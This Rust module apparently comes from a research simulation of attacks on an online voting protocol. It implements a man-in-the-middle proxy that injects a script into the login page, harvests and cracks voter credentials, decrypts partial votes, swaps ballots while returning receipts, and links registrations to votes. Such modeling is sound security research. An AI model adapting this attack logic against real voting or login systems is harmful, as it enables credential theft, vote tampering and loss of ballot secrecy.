//! A TLS-terminating mitigation proxy between browsers and the server. It
//! sees every request and response in plaintext, so it can log, rewrite
//! the login page, lift credentials from the profiling cookie, crack login
//! ids, read partial votes, swap ballots and link registrations to votes.

pub mod analysis;
pub mod inject;
pub mod transcript;

use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, Mutex, MutexGuard};

use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::bruteforce::{CrackError, CrackOptions};
use crate::client::build_ballot;
use crate::clock::SimClock;
use crate::crypto::{open_credential_file, Credentials, Kdf, SchemeParams};
use crate::protocol::page::{FINGERPRINT_COOKIE, PROFILING_SCRIPT};
use crate::protocol::{
    from_body, to_body, CastResponse, Endpoint, EndpointKind, Preferences, Receipt, Request, Response, SetCookie, Transport, TransportError,
};

pub use analysis::{
    crack_session, crack_session_with, decrypt_partials, harvest_credentials, link_sessions, observed_login_ids, Harvested, PartialRecovery,
};
pub use inject::{inject, InjectionPayload};
pub use transcript::{read_jsonl, write_jsonl, Direction, Message, SessionId, Transcript};

pub const DEFAULT_COOKIE_LIFETIME_SECS: u64 = 20;
const FINGERPRINT_MAX_AGE_SECS: u64 = 365 * 24 * 3600;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ProxyError {
    #[error("payload is {modified} bytes but the original script is {original}")]
    PayloadLength { original: usize, modified: usize },
    #[error("response is not the modeled login page")]
    NotLoginPage,
    #[error("precondition: {0}")]
    Precondition(String),
    #[error("invalid attack configuration: {0}")]
    Config(String),
    #[error(transparent)]
    Crack(#[from] CrackError),
    #[error("no recovered credentials for session {0}")]
    CannotSubstitute(SessionId),
    #[error("session {0} has already cast")]
    TooLate(SessionId),
    #[error("unknown session {0}")]
    UnknownSession(SessionId),
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackConfig {
    /// Keep message bodies. Without it only endpoints, cookies and times
    /// are logged.
    pub passive_log: bool,
    pub inject: bool,
    pub substitute: bool,
    #[serde(default)]
    pub attacker_prefs: Option<Preferences>,
    pub cookie_lifetime_secs: u64,
    pub crack_workers: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            passive_log: false,
            inject: false,
            substitute: false,
            attacker_prefs: None,
            cookie_lifetime_secs: DEFAULT_COOKIE_LIFETIME_SECS,
            crack_workers: 1,
        }
    }
}

impl AttackConfig {
    /// Relays and logs bodies; no rewriting.
    pub fn passive() -> Self {
        Self {
            passive_log: true,
            ..Self::default()
        }
    }

    pub fn injecting() -> Self {
        Self {
            inject: true,
            ..Self::passive()
        }
    }

    pub fn substituting(prefs: Preferences) -> Self {
        Self {
            inject: true,
            substitute: true,
            attacker_prefs: Some(prefs),
            ..Self::passive()
        }
    }

    pub fn validate(&self) -> Result<(), ProxyError> {
        if self.substitute && !self.passive_log {
            return Err(ProxyError::Config("substitute requires passive_log".into()));
        }
        if self.cookie_lifetime_secs == 0 {
            return Err(ProxyError::Config("cookie lifetime must be positive".into()));
        }
        if self.crack_workers == 0 {
            return Err(ProxyError::Config("crack_workers must be at least 1".into()));
        }
        Ok(())
    }
}

/// What happened to an armed substitution.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Substitution {
    Armed,
    /// The swapped ballot went upstream; `receipt` is what the voter got.
    Substituted {
        receipt: Option<Receipt>,
    },
    /// The cast went through unmodified.
    PassedThrough {
        reason: String,
    },
}

#[derive(Default)]
struct Inner {
    next_session: SessionId,
    transcripts: BTreeMap<SessionId, Transcript>,
    recovered: HashMap<SessionId, Credentials>,
    substitutions: HashMap<SessionId, (Preferences, Substitution)>,
    rng: Option<ChaCha20Rng>,
}

struct State {
    config: AttackConfig,
    params: SchemeParams,
    clock: SimClock,
    payload: InjectionPayload,
    inner: Mutex<Inner>,
}

#[derive(Clone)]
pub struct Proxy {
    state: Arc<State>,
}

impl Proxy {
    pub fn new(config: AttackConfig, params: SchemeParams, clock: SimClock, seed: u64) -> Result<Self, ProxyError> {
        config.validate()?;
        params.validate().map_err(|e| ProxyError::Config(e.to_string()))?;
        let payload = InjectionPayload::craft(PROFILING_SCRIPT)?;
        let inner = Inner {
            rng: Some(ChaCha20Rng::seed_from_u64(seed)),
            ..Inner::default()
        };
        Ok(Self {
            state: Arc::new(State {
                config,
                params,
                clock,
                payload,
                inner: Mutex::new(inner),
            }),
        })
    }

    pub fn config(&self) -> &AttackConfig {
        &self.state.config
    }

    pub fn params(&self) -> &SchemeParams {
        &self.state.params
    }

    pub fn payload(&self) -> &InjectionPayload {
        &self.state.payload
    }

    fn lock(&self) -> MutexGuard<'_, Inner> {
        self.state.inner.lock().unwrap_or_else(|p| p.into_inner())
    }

    fn rng(inner: &mut Inner) -> &mut ChaCha20Rng {
        inner.rng.as_mut().expect("rng present")
    }

    /// Opens a new session in front of `upstream`.
    pub fn connect<T: Transport>(&self, upstream: T) -> ProxyTransport<T> {
        let mut inner = self.lock();
        let session_id = inner.next_session;
        inner.next_session += 1;
        inner.transcripts.insert(session_id, Transcript::new(session_id));
        ProxyTransport {
            proxy: self.clone(),
            session_id,
            upstream,
        }
    }

    pub fn transcript(&self, session_id: SessionId) -> Option<Transcript> {
        self.lock().transcripts.get(&session_id).cloned()
    }

    pub fn transcripts(&self) -> Vec<Transcript> {
        self.lock().transcripts.values().cloned().collect()
    }

    fn record(&self, inner: &mut Inner, session_id: SessionId, mut msg: Message) {
        if !self.state.config.passive_log {
            msg.body = None;
        }
        if let Some(t) = inner.transcripts.get_mut(&session_id) {
            t.messages.push(msg);
        }
    }

    /// Records one body passing through and returns what is forwarded.
    pub fn relay(&self, session_id: SessionId, direction: Direction, endpoint: &str, body: &str) -> String {
        match direction {
            Direction::ClientToServer => {
                let mut req = Request {
                    endpoint: endpoint.to_owned(),
                    voter_keys_id: None,
                    body: body.to_owned(),
                    cookies: BTreeMap::new(),
                };
                req = self.relay_request(session_id, req);
                req.body
            }
            Direction::ServerToClient => self.relay_response(session_id, endpoint, Response::ok(body.to_owned()), None).body,
        }
    }

    fn relay_request(&self, session_id: SessionId, mut req: Request) -> Request {
        let mut inner = self.lock();
        let mut rewritten = false;
        if req.parsed_endpoint().map(|e| e.kind()).ok() == Some(EndpointKind::Vote) {
            if let Some(body) = self.swap_ballot(&mut inner, session_id) {
                req.body = body;
                rewritten = true;
            }
        }
        let msg = Message {
            direction: Direction::ClientToServer,
            endpoint: req.endpoint.clone(),
            body: Some(req.body.clone()),
            cookies: req.cookies.clone(),
            set_cookies: Vec::new(),
            ok: None,
            timestamp_ms: self.state.clock.now_ms(),
            rewritten,
        };
        self.record(&mut inner, session_id, msg);
        req
    }

    /// Builds the attacker's ballot for an armed session, or records why
    /// the cast has to pass through.
    fn swap_ballot(&self, inner: &mut Inner, session_id: SessionId) -> Option<String> {
        let prefs = match inner.substitutions.get(&session_id) {
            Some((prefs, Substitution::Armed)) => prefs.clone(),
            _ => return None,
        };
        let result = (|| {
            let creds = inner.recovered.get(&session_id).ok_or("credentials not recovered")?.clone();
            let t = inner.transcripts.get(&session_id).ok_or("no transcript")?;
            let file = analysis::recorded_credential_file(t).ok_or("no credential file recorded")?;
            let token = analysis::recorded_token(t).ok_or("no token recorded")?;
            let kdf = Kdf::new(self.state.params.iterations).map_err(|_| "bad params")?;
            let keys = open_credential_file(&kdf, &creds, &file).map_err(|_| "recovered credentials do not open the file")?;
            let mut rng = ChaCha20Rng::seed_from_u64(Self::rng(inner).gen());
            let ballot = build_ballot(&keys, &token, &prefs, &mut rng).map_err(|_| "ballot construction failed")?;
            Ok::<_, &str>(to_body(&ballot))
        })();
        let (outcome, body) = match result {
            Ok(body) => (Substitution::Substituted { receipt: None }, Some(body)),
            Err(reason) => (Substitution::PassedThrough { reason: reason.into() }, None),
        };
        inner.substitutions.insert(session_id, (prefs, outcome));
        body
    }

    fn relay_response(&self, session_id: SessionId, endpoint: &str, mut resp: Response, new_fingerprint: Option<String>) -> Response {
        let mut inner = self.lock();
        let kind = endpoint.parse::<Endpoint>().ok().map(|e| e.kind());
        let mut rewritten = false;
        if self.state.config.inject && kind == Some(EndpointKind::LoginPage) && resp.is_ok() {
            if let Ok(page) = inject(&resp.body, &self.state.payload) {
                resp.body = page;
                rewritten = true;
            }
        }
        if kind == Some(EndpointKind::Vote) && resp.is_ok() {
            if let Some((_, Substitution::Substituted { receipt })) = inner.substitutions.get_mut(&session_id) {
                *receipt = from_body::<CastResponse>(&resp.body).ok().map(|c| c.receipt);
            }
        }
        if let Some(fp) = new_fingerprint {
            resp.set_cookies.push(SetCookie {
                name: FINGERPRINT_COOKIE.into(),
                value: fp,
                max_age_secs: Some(FINGERPRINT_MAX_AGE_SECS),
            });
        }
        let msg = Message {
            direction: Direction::ServerToClient,
            endpoint: endpoint.to_owned(),
            body: Some(resp.body.clone()),
            cookies: BTreeMap::new(),
            set_cookies: resp.set_cookies.clone(),
            ok: Some(resp.is_ok()),
            timestamp_ms: self.state.clock.now_ms(),
            rewritten,
        };
        self.record(&mut inner, session_id, msg);
        resp
    }

    /// Sets the session's fingerprint from the request cookie, minting one
    /// when the browser has none. Returns the minted value.
    fn fingerprint(&self, session_id: SessionId, req: &Request) -> Option<String> {
        let mut inner = self.lock();
        let (fp, minted) = match req.cookies.get(FINGERPRINT_COOKIE) {
            Some(fp) => (fp.clone(), None),
            None => {
                let mut raw = [0u8; 8];
                Self::rng(&mut inner).fill_bytes(&mut raw);
                let fp = hex::encode(raw);
                (fp.clone(), Some(fp))
            }
        };
        let t = inner.transcripts.get_mut(&session_id)?;
        if t.client_fingerprint.is_none() {
            t.client_fingerprint = Some(fp);
        }
        minted
    }

    pub fn harvest_credentials(&self, session_id: SessionId) -> Result<Vec<Harvested>, ProxyError> {
        let t = self.transcript(session_id).ok_or(ProxyError::UnknownSession(session_id))?;
        Ok(harvest_credentials(&t, &self.state.params, self.state.config.cookie_lifetime_secs))
    }

    /// Harvests from every session.
    pub fn harvest_all(&self) -> Vec<Harvested> {
        self.transcripts()
            .iter()
            .flat_map(|t| harvest_credentials(t, &self.state.params, self.state.config.cookie_lifetime_secs))
            .collect()
    }

    pub fn crack_session(&self, session_id: SessionId, known_id_hint: Option<&str>) -> Result<Credentials, ProxyError> {
        let t = self.transcript(session_id).ok_or(ProxyError::UnknownSession(session_id))?;
        let opts = CrackOptions::with_workers(self.state.config.crack_workers);
        crack_session(&t, &self.state.params, known_id_hint, &opts)
    }

    pub fn record_credentials(&self, session_id: SessionId, creds: Credentials) {
        self.lock().recovered.insert(session_id, creds);
    }

    pub fn recovered(&self, session_id: SessionId) -> Option<Credentials> {
        self.lock().recovered.get(&session_id).cloned()
    }

    /// Harvests the session and remembers the first pair found.
    pub fn recover_by_harvest(&self, session_id: SessionId) -> Result<Option<Credentials>, ProxyError> {
        let creds = self.harvest_credentials(session_id)?.into_iter().next().map(|h| h.creds);
        if let Some(c) = &creds {
            self.record_credentials(session_id, c.clone());
        }
        Ok(creds)
    }

    pub fn recover_by_crack(&self, session_id: SessionId, known_id_hint: Option<&str>) -> Result<Credentials, ProxyError> {
        let creds = self.crack_session(session_id, known_id_hint)?;
        self.record_credentials(session_id, creds.clone());
        Ok(creds)
    }

    /// Arms a ballot swap for the session's next cast.
    pub fn substitute_ballot(&self, session_id: SessionId, attacker_prefs: Preferences) -> Result<(), ProxyError> {
        if !self.state.config.substitute {
            return Err(ProxyError::Config("substitute mode is off".into()));
        }
        let mut inner = self.lock();
        let t = inner.transcripts.get(&session_id).ok_or(ProxyError::UnknownSession(session_id))?;
        if t.exchanges(EndpointKind::Vote).any(|(_, r)| r.is_some_and(|r| r.ok == Some(true))) {
            return Err(ProxyError::TooLate(session_id));
        }
        if !inner.recovered.contains_key(&session_id) {
            return Err(ProxyError::CannotSubstitute(session_id));
        }
        inner.substitutions.insert(session_id, (attacker_prefs, Substitution::Armed));
        Ok(())
    }

    pub fn substitution(&self, session_id: SessionId) -> Option<Substitution> {
        self.lock().substitutions.get(&session_id).map(|(_, s)| s.clone())
    }

    /// The receipt the voter was given for a swapped ballot.
    pub fn substitution_receipt(&self, session_id: SessionId) -> Option<Receipt> {
        match self.substitution(session_id)? {
            Substitution::Substituted { receipt } => receipt,
            _ => None,
        }
    }

    pub fn decrypt_partials(&self, session_id: SessionId, creds: &Credentials) -> Result<PartialRecovery, ProxyError> {
        let t = self.transcript(session_id).ok_or(ProxyError::UnknownSession(session_id))?;
        decrypt_partials(&t, &self.state.params, creds)
    }

    pub fn link_sessions(&self) -> BTreeMap<String, SessionId> {
        link_sessions(&self.transcripts())
    }
}

/// One browser connection through the proxy.
pub struct ProxyTransport<T> {
    proxy: Proxy,
    session_id: SessionId,
    upstream: T,
}

impl<T> ProxyTransport<T> {
    pub fn session_id(&self) -> SessionId {
        self.session_id
    }

    pub fn proxy(&self) -> &Proxy {
        &self.proxy
    }
}

impl<T: Transport> Transport for ProxyTransport<T> {
    fn exchange(&mut self, request: Request) -> Result<Response, TransportError> {
        let minted = self.proxy.fingerprint(self.session_id, &request);
        let endpoint = request.endpoint.clone();
        let forwarded = self.proxy.relay_request(self.session_id, request);
        let resp = self.upstream.exchange(forwarded)?;
        Ok(self.proxy.relay_response(self.session_id, &endpoint, resp, minted))
    }
}

#[cfg(test)]
mod tests;
